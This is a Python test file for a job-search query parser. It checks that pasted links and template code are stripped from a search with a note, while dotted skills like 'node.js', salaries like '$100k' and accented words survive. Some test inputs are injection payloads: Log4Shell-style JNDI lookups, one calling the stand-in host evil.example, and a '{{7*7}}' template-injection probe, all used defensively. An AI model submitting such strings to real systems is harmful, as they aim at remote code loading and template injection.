"""A pasted link or template code is left out in one note (never a specialty, an operator or a
title word); a word read as another is echoed as the person spelt it. Traps: what looks like
them but is a search's own words."""

from __future__ import annotations

import pytest

from core.matching import parse_query


@pytest.mark.parametrize(
    ("text", "dropped", "kind"),
    [
        ("nurse ${jndi:ldap://x}", "${jndi:ldap://x}", "template code"),
        ("teacher {{7*7}}", "{{7*7}}", "template code"),
        ("nurse ${jndi:ldap://evil.example/a", "${jndi:ldap://evil.example/a", "template code"),
        ("nurse http://example.com/x", "http://example.com/x", "a link"),
        ("https://boards.example.com/jobs/12?ref=a python developer", None, "a link"),
        ("backend engineer www.example.com", "www.example.com", "a link"),
    ],
)
def test_links_and_template_code_are_left_out(text: str, dropped: str | None, kind: str) -> None:
    query = parse_query(text)
    notes = " | ".join(query.notes)
    assert "operator" not in notes and "specialty" not in notes, notes
    assert f"out: it {'reads as' if kind == 'template code' else 'is'} {kind}" in notes, notes
    if dropped:
        assert f'"{dropped}"' in notes, notes
    words = " ".join(query.title)
    assert "jndi" not in words and "http" not in words and "www" not in words, query.title


@pytest.mark.parametrize(
    ("text", "title", "skills"),
    [
        ("asp.net developer", "developer", (".NET",)),
        ("node.js engineer", "engineer", ("Node.js",)),
        ("web developer", "web developer", ()),
    ],
)
def test_traps_dotted_skills_and_web_words_stay(
    text: str, title: str, skills: tuple[str, ...]
) -> None:
    query = parse_query(text)
    assert " ".join(query.title) == title and tuple(query.skills) == skills, query
    assert not any("link" in n or "template" in n for n in query.notes), query.notes


def test_pay_in_dollars_is_no_template() -> None:
    query = parse_query("nurse $100k")
    assert query.salary_min == 100_000 and not any("template" in n for n in query.notes)


@pytest.mark.parametrize(
    ("text", "typed"),
    [("mecánico diésel", "mecánico"), ("Mecánico", "Mecánico")],
)
def test_a_word_read_as_another_is_echoed_as_typed(text: str, typed: str) -> None:
    notes = parse_query(text).notes
    assert any(n.startswith(f'I read "{typed}" as mechanic') for n in notes), notes
